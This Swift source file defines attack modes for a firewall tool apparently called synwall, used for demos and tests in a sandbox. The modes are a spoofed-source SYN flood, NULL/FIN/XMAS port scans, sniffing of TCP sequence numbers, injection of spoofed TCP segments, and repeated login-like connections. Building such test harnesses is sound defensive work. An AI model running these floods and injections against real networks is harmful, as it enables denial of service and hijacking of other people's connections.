import ArgumentParser
import Foundation
import Sandbox
import Wire

// Attack modes of `synwall peer`, for the demo and the tests: crafted packets sent through a raw
// socket (Sandbox's RawPacketSender), connection state learned by a tap on the path
// (PacketSniffer). They run in a sandbox namespace as root; none of them needs Python.

extension PeerCommand {
    /// `synwall peer syn-flood HOST PORT --count N [--sources-from ADDRESS]`
    struct SynFlood: ParsableCommand {
        static let configuration = CommandConfiguration(
            commandName: "syn-flood",
            abstract: "Send SYNs from many spoofed source addresses (IPv4).",
            discussion: """
                Each SYN comes from the next address after --sources-from (one address per SYN), a \
                random source port and a random sequence number. Prints \
                'synwall peer: sent N SYNs from N spoofed sources in S s'.
                """)

        @Argument(help: "Target IPv4 address.")
        var host: String

        @Argument(help: "Target TCP port.")
        var port: UInt16

        @Option(help: "SYNs to send.")
        var count = 1000

        @Option(help: "First spoofed source address (default: the 198.18.0.0/15 benchmarking range).")
        var sourcesFrom = "198.18.0.1"

        func validate() throws {
            guard (1...1_000_000).contains(count) else { throw ValidationError("--count must be 1 to 1000000.") }
            guard IPAddress(host)?.isIPv4 == true else { throw ValidationError("'\(host)' is not an IPv4 address.") }
            guard IPAddress(sourcesFrom)?.isIPv4 == true else {
                throw ValidationError("--sources-from '\(sourcesFrom)' is not an IPv4 address.")
            }
        }

        func run() throws {
            try reportingPeerErrors {
                guard let target = IPAddress(host), let first = IPAddress(sourcesFrom)?.ipv4 else { return }
                let sender = try RawPacketSender()
                var generator = SystemRandomNumberGenerator()
                var options = TCPOptions()
                options.mss = 1460
                let started = ContinuousClock.now
                for index in 0..<UInt32(count) {
                    var builder = PacketBuilder(source: IPAddress(ipv4: first &+ index), destination: target)
                    builder.identification = UInt16(truncatingIfNeeded: index)
                    try sender.send(builder.tcp(
                        sourcePort: UInt16.random(in: 1024...65535, using: &generator), destinationPort: port,
                        sequence: UInt32.random(in: .min ... .max, using: &generator), flags: .syn, window: 64240,
                        options: options))
                }
                let elapsed = (ContinuousClock.now - started).components
                let seconds = Double(elapsed.seconds) + Double(elapsed.attoseconds) / 1e18
                say("synwall peer: sent \(sender.sent) SYNs from \(count) spoofed sources in "
                    + String(format: "%.2f s", seconds))
            }
        }
    }

    /// `synwall peer scan HOST --ports A-B --source ADDRESS --interface IF`
    struct Scan: ParsableCommand {
        static let configuration = CommandConfiguration(
            abstract: "NULL, FIN and XMAS scans of a port range (IPv4), counting the answers.",
            discussion: """
                Three scans one after the other, --pause seconds apart: every port gets a segment \
                with no flags, then one with FIN, then one with FIN+PSH+URG, from --source. Then it \
                listens on --interface for --wait seconds for anything the target sends back (it \
                listens from the first probe on). Prints 'synwall peer: scan sent=N replies=M'.
                """)

        @Argument(help: "Target IPv4 address.")
        var host: String

        @Option(help: "Ports to probe, as FIRST-LAST or one port.")
        var ports = "20-29"

        @Option(help: "Source address of the probes (this namespace's own).")
        var source: String

        @Option(help: "Interface to listen on for answers.")
        var interface: String

        @Option(help: "Seconds to listen for answers after the last probe.")
        var wait: Double = 0.5

        @Option(help: "Seconds between the NULL, FIN and XMAS scans.")
        var pause: Double = 0

        func validate() throws {
            guard IPAddress(host)?.isIPv4 == true, IPAddress(source)?.isIPv4 == true else {
                throw ValidationError("the target and --source must be IPv4 addresses.")
            }
            guard portRange != nil else { throw ValidationError("--ports must be a port or FIRST-LAST, e.g. 20-29.") }
            guard wait >= 0, wait <= 60 else { throw ValidationError("--wait must be 0 to 60 seconds.") }
            guard pause >= 0, pause <= 60 else { throw ValidationError("--pause must be 0 to 60 seconds.") }
        }

        var portRange: ClosedRange<UInt16>? {
            let parts = ports.split(separator: "-", maxSplits: 1).map { UInt16($0) }
            guard let first = parts.first ?? nil, let last = parts.count == 2 ? parts[1] : first, first <= last
            else { return nil }
            return first...last
        }

        func run() throws {
            try reportingPeerErrors {
                guard let target = IPAddress(host), let own = IPAddress(source), let range = portRange else { return }
                let sniffer = try PacketSniffer(interface: interface)
                let sender = try RawPacketSender()
                let builder = PacketBuilder(source: own, destination: target)
                let probes: [TCPFlags] = [[], [.fin], [.fin, .psh, .urg]]
                var sourcePort: UInt16 = 40000
                for (number, flags) in probes.enumerated() {
                    if number > 0 && pause > 0 { usleep(UInt32(pause * 1_000_000)) }
                    for port in range {
                        sourcePort &+= 1
                        try sender.send(builder.tcp(sourcePort: sourcePort, destinationPort: port, sequence: 1000,
                                                    flags: flags, window: 1024))
                    }
                }
                var replies = 0
                let deadline = ContinuousClock.now + .milliseconds(Int64(wait * 1000))
                while case let left = deadline - ContinuousClock.now, left > .zero,
                      let bytes = try sniffer.next(timeout: left) {
                    let packet = bytes.withUnsafeBytes { PacketDecoder.decode($0) }.packet
                    if let packet, packet.source == target, packet.destination == own { replies += 1 }
                }
                say("synwall peer: scan sent=\(sender.sent) replies=\(replies)")
            }
        }
    }

    /// `synwall peer sniff --interface IF --port P`
    struct Sniff: ParsableCommand {
        static let configuration = CommandConfiguration(
            abstract: "Learn a live TCP connection's sequence numbers from a tap on its path.",
            discussion: """
                Watches --interface for a connection to or from --port and prints \
                'synwall peer: sniffed client=A client_port=P server=B server_port=Q client_next=N \
                client_ack=M server_next=K segments=S'; exits 1 if none is seen within --timeout.
                """)

        @Option(help: "Interface on the connection's path.")
        var interface: String

        @Option(help: "The connection's server port.")
        var port: UInt16

        @Option(help: "Seconds to watch at most.")
        var timeout: Double = 3

        func validate() throws {
            guard timeout > 0, timeout <= 60 else { throw ValidationError("--timeout must be 0 to 60 seconds.") }
        }

        func run() throws {
            try reportingPeerErrors {
                let sniffer = try PacketSniffer(interface: interface)
                guard let connection = try SniffedConnection.observe(
                    sniffer, serverPort: port, timeout: .milliseconds(Int64(timeout * 1000)))
                else {
                    throw PeerError.unusable("no connection on port \(port) crossed \(interface) within \(timeout) s")
                }
                say("synwall peer: sniffed \(connection)")
            }
        }
    }

    /// `synwall peer inject --source A --source-port P --destination B --destination-port Q --flags F --seq N`
    struct Inject: ParsableCommand {
        static let configuration = CommandConfiguration(
            abstract: "Send one crafted TCP segment (IPv4), from any source address.",
            discussion: "Prints 'synwall peer: injected FLAGS seq=N ack=M length=L from A port P to B port Q'.")

        @Option(help: "Source address (it may be another host's: the segment is spoofed).")
        var source: String

        @Option(help: "Source port.")
        var sourcePort: UInt16

        @Option(help: "Destination address.")
        var destination: String

        @Option(help: "Destination port.")
        var destinationPort: UInt16

        @Option(help: "TCP flags as letters: S (SYN), A (ACK), R (RST), F (FIN), P (PSH), U (URG).")
        var flags: String

        @Option(help: "Sequence number.")
        var seq: UInt32

        @Option(help: "Acknowledgment number (sent with A).")
        var ack: UInt32 = 0

        @Option(help: "Payload text.")
        var payload = ""

        func validate() throws {
            guard IPAddress(source)?.isIPv4 == true, IPAddress(destination)?.isIPv4 == true else {
                throw ValidationError("--source and --destination must be IPv4 addresses.")
            }
            guard tcpFlags != nil else { throw ValidationError("--flags takes the letters S, A, R, F, P and U.") }
        }

        var tcpFlags: TCPFlags? {
            var result: TCPFlags = []
            for letter in flags.uppercased() {
                switch letter {
                case "S": result.insert(.syn)
                case "A": result.insert(.ack)
                case "R": result.insert(.rst)
                case "F": result.insert(.fin)
                case "P": result.insert(.psh)
                case "U": result.insert(.urg)
                default: return nil
                }
            }
            return result
        }

        func run() throws {
            try reportingPeerErrors {
                guard let builder = PacketBuilder(from: source, to: destination), let tcpFlags else { return }
                let sender = try RawPacketSender()
                let bytes = Array(payload.utf8)
                try sender.send(builder.tcp(sourcePort: sourcePort, destinationPort: destinationPort, sequence: seq,
                                            acknowledgment: ack, flags: tcpFlags, window: 512, payload: bytes))
                say("synwall peer: injected \(flags.uppercased()) seq=\(seq) ack=\(ack) length=\(bytes.count) "
                    + "from \(source) port \(sourcePort) to \(destination) port \(destinationPort)")
            }
        }
    }

    /// `synwall peer brute-force HOST PORT --attempts N`
    struct BruteForce: ParsableCommand {
        static let configuration = CommandConfiguration(
            commandName: "brute-force",
            abstract: "Many quick login-like connections to one port (an echo server stands in for SSH).",
            discussion: """
                Each attempt connects, sends a guess and waits for its echo, within --timeout. Prints \
                'synwall peer: attempt K: answered' or 'synwall peer: attempt K: no answer (REASON)' \
                per attempt, then 'synwall peer: brute force answered=A unanswered=U'.
                """)

        @Argument(help: "Host name or IPv4/IPv6 address.")
        var host: String

        @Argument(help: "TCP port.")
        var port: UInt16

        @Option(help: "Connections to try.")
        var attempts = 12

        @Option(help: "Seconds each attempt may take.")
        var timeout: Double = 0.5

        func validate() throws {
            guard (1...1000).contains(attempts) else { throw ValidationError("--attempts must be 1 to 1000.") }
            guard timeout > 0, timeout <= 60 else { throw ValidationError("--timeout must be 0 to 60 seconds.") }
        }

        func run() throws {
            let client = EchoClient(host: host, port: port, timeout: .milliseconds(Int64(timeout * 1000)))
            var answered = 0
            for attempt in 1...attempts {
                do {
                    try client.exchange(Array("root:guess\(attempt)\n".utf8))
                    answered += 1
                    say("synwall peer: attempt \(attempt): answered")
                } catch {
                    say("synwall peer: attempt \(attempt): no answer (\(error))")
                }
            }
            say("synwall peer: brute force answered=\(answered) unanswered=\(attempts - answered)")
        }
    }
}

/// Runs `body`; a ``PeerError`` becomes one line on stderr and exit status 1.
private func reportingPeerErrors(_ body: () throws -> Void) throws {
    do {
        try body()
    } catch let error as PeerError {
        printError("synwall peer: \(error)")
        throw ExitCode.failure
    }
}
